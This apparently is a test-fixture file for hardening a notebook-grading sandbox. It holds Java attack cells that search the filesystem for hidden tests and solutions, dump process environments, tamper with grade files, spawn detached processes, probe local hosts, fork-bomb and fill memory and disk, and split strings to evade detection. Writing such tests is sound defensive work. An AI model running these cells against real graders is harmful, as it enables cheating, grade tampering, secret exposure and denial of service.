"""Attack submissions for the grading sandbox: Java cells a student could append to an exercise notebook.
Each is one kind of attack of issue 12 and prints what it achieved into its own output (so into its
feedback page). Strings the host-side checks look for are built by concatenation in Java, so the cell's
own source (the submitted notebook, the feedback page) never contains them whole."""
from __future__ import annotations

MARKER = "lrlab-attack-marker"          # written by the writing attack ("lrlab-attack-" + "marker" in Java)
SLEEP_TAG = "6123457"                   # the detached / forked processes are `sleep 61234xx`

# Java helpers shared by the file attacks: the folders to walk (everything a student would think of)
_ROOTS = r'''
List<Path> roots = new ArrayList<>();
for (String r : new String[] {"/", "/work", "/tmp", "/root", "/home", "/run", "/var", "/srv", "/mnt",
        System.getProperty("user.home"), System.getenv().getOrDefault("LRLAB_ROOT", "/"),
        System.getenv().getOrDefault("JUPYTER_DATA_DIR", "/")}) roots.add(Path.of(r));
for (Path p = Path.of("").toAbsolutePath(); p != null; p = p.getParent()) roots.add(p);
try (var ps = Files.list(Path.of("/proc"))) {
    ps.filter(p -> p.getFileName().toString().matches("[0-9]+"))
      .forEach(p -> { roots.add(p.resolve("cwd")); roots.add(p.resolve("root")); });
}
long deadline = System.currentTimeMillis() + 18_000;
'''

READ = r'''
import java.nio.file.*;
import java.nio.file.attribute.BasicFileAttributes;
import java.io.IOException;
import java.util.*;
''' + _ROOTS + r'''
String[] needles = {"BEGIN " + "HIDDEN TESTS", "BEGIN " + "SOLUTION", "END " + "HIDDEN"};
int[] scanned = {0};
Set<String> found = new TreeSet<>();
for (Path root : roots) {
    try {
        Files.walkFileTree(root, EnumSet.of(FileVisitOption.FOLLOW_LINKS), 14, new SimpleFileVisitor<Path>() {
            public FileVisitResult preVisitDirectory(Path d, BasicFileAttributes a) {
                String s = d.toString();
                if (System.currentTimeMillis() > deadline) return FileVisitResult.TERMINATE;
                if (!d.equals(root) && (s.startsWith("/proc") || s.startsWith("/sys") || s.startsWith("/dev") || s.startsWith("/usr/share")
                        || s.startsWith("/usr/lib/jvm") || s.startsWith("/usr/include"))) return FileVisitResult.SKIP_SUBTREE;
                return FileVisitResult.CONTINUE;
            }
            public FileVisitResult visitFile(Path f, BasicFileAttributes a) {
                scanned[0]++;
                String n = f.getFileName() == null ? "" : f.getFileName().toString();
                if (a.isRegularFile() && a.size() < 20_000_000 && (n.matches("(?i).*\\.(ipynb|db|csv|py|json|html|txt|log|j2)$")
                        || n.contains("gradebook") || n.contains("config"))) {
                    try {
                        String text = new String(Files.readAllBytes(f), java.nio.charset.StandardCharsets.ISO_8859_1);
                        for (String needle : needles) if (text.contains(needle)) found.add(f + " has " + needle);
                        if (text.startsWith("SQLite " + "format 3")) found.add(f + " is a database");
                    } catch (Exception e) { }
                }
                return FileVisitResult.CONTINUE;
            }
            public FileVisitResult visitFileFailed(Path f, IOException e) { return FileVisitResult.CONTINUE; }
        });
    } catch (Exception e) { }
}
for (String f : found) System.out.println("FOUND " + f);
try (var ps = Files.list(Path.of("/proc"))) {
    ps.filter(p -> p.getFileName().toString().matches("[0-9]+")).forEach(p -> {
        try { System.out.println("ENVIRON " + p + ": " + new String(Files.readAllBytes(p.resolve("environ"))).replace('\0', ' ')); }
        catch (Exception e) { }
        try { System.out.println("CWD " + p + ": " + Files.readSymbolicLink(p.resolve("cwd"))); } catch (Exception e) { }
    });
}
System.out.println("READ-ATTACK scanned " + scanned[0] + " files, found " + found.size());
'''

WRITE = r'''
import java.nio.file.*;
import java.nio.file.attribute.BasicFileAttributes;
import java.io.IOException;
import java.util.*;
''' + _ROOTS + r'''
String mark = "lrlab-attack-" + "marker";
List<String> wrote = new ArrayList<>();
for (Path root : roots) {
    try {
        Files.walkFileTree(root, EnumSet.of(FileVisitOption.FOLLOW_LINKS), 10, new SimpleFileVisitor<Path>() {
            public FileVisitResult preVisitDirectory(Path d, BasicFileAttributes a) {
                String s = d.toString();
                if (System.currentTimeMillis() > deadline) return FileVisitResult.TERMINATE;
                if (!d.equals(root) && (s.startsWith("/proc") || s.startsWith("/sys") || s.startsWith("/dev") || s.startsWith("/usr/share")
                        || s.startsWith("/usr/lib/jvm"))) return FileVisitResult.SKIP_SUBTREE;
                try { Files.writeString(d.resolve(mark + ".txt"), mark); wrote.add("WROTE " + d); } catch (Exception e) { }
                return FileVisitResult.CONTINUE;
            }
            public FileVisitResult visitFile(Path f, BasicFileAttributes a) {
                String n = f.getFileName() == null ? "" : f.getFileName().toString();
                if (n.equals("grades.csv") || n.equals("cells.csv") || n.equals("nbgrader_config.py") || n.endsWith(".ipynb")
                        || n.endsWith(".db") || n.endsWith(".json") || n.endsWith(".html")) {
                    try { Files.writeString(f, "\n" + mark + "\n", StandardOpenOption.APPEND); wrote.add("APPENDED " + f); }
                    catch (Exception e) { }
                }
                return FileVisitResult.CONTINUE;
            }
            public FileVisitResult visitFileFailed(Path f, IOException e) { return FileVisitResult.CONTINUE; }
        });
    } catch (Exception e) { }
}
new TreeSet<>(wrote).forEach(System.out::println);
System.out.println("WRITE-ATTACK " + wrote.size() + " writes");
'''

DETACH = r'''
new ProcessBuilder("setsid", "sh", "-c", "sleep 61234571 & sleep 61234572").start();
new ProcessBuilder("sh", "-c", "nohup sleep 61234573 >/dev/null 2>&1 &").start();
new ProcessBuilder("setsid", "-f", "sleep", "61234574").start();
Thread.sleep(1000);
System.out.println("DETACH-ATTACK started detached sleepers");
'''


def network(port: int) -> str:
    return r'''
import java.net.*;
for (String host : new String[] {"127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1", "192.168.0.1"}) {
    try (var s = new Socket()) {
        s.connect(new InetSocketAddress(host, PORT), 2000);
        s.getOutputStream().write("attack".getBytes());
        System.out.println("CONNECTED " + host);
    } catch (Exception e) { System.out.println("no connection to " + host + ": " + e); }
}
try { new URL("http://127.0.0.1:PORT/").openStream().read(); System.out.println("HTTP CONNECTED"); }
catch (Exception e) { System.out.println("no http: " + e); }
System.out.println("NETWORK-ATTACK done");
'''.replace("PORT", str(port))


MEMORY = r'''
var hog = new ArrayList<byte[]>();
try { while (true) hog.add(new byte[1 << 20]); }
catch (OutOfMemoryError e) { System.out.println("MEMORY-ATTACK heap stopped at " + hog.size() + " MB"); }
hog.clear();
var p = new ProcessBuilder("python3", "-c", "b = []\nwhile True: b.append(b'x' * 10**7)").start();
System.out.println("MEMORY-ATTACK native allocator exited with " + p.waitFor());
'''

FORK = r'''
int procs = 0, threads = 0;
try { while (procs < 100_000) { new ProcessBuilder("sleep", "61234575").start(); procs++; } }
catch (Throwable e) { System.out.println("FORK-ATTACK processes stopped at " + procs + ": " + e); }
try {
    while (threads < 100_000) {
        var t = new Thread(() -> { try { Thread.sleep(600_000); } catch (InterruptedException e) { } });
        t.setDaemon(true); t.start(); threads++;
    }
} catch (Throwable e) { System.out.println("FORK-ATTACK threads stopped at " + threads + ": " + e); }
'''

DISK = r'''
long total = 0;
byte[] block = new byte[1 << 20];
for (String dir : new String[] {".", "/tmp", System.getProperty("user.home"), "/dev/shm", "/var/tmp", "/"}) {
    long n = 0;
    try (var out = new java.io.FileOutputStream(dir + "/fill-" + System.nanoTime())) {
        while (n < (16L << 30)) { out.write(block); n += block.length; }
    } catch (Exception e) { }
    total += n;
    System.out.println("wrote " + (n >> 20) + " MB into " + dir);
}
System.out.println("DISK-ATTACK total " + (total >> 20) + " MB");
'''
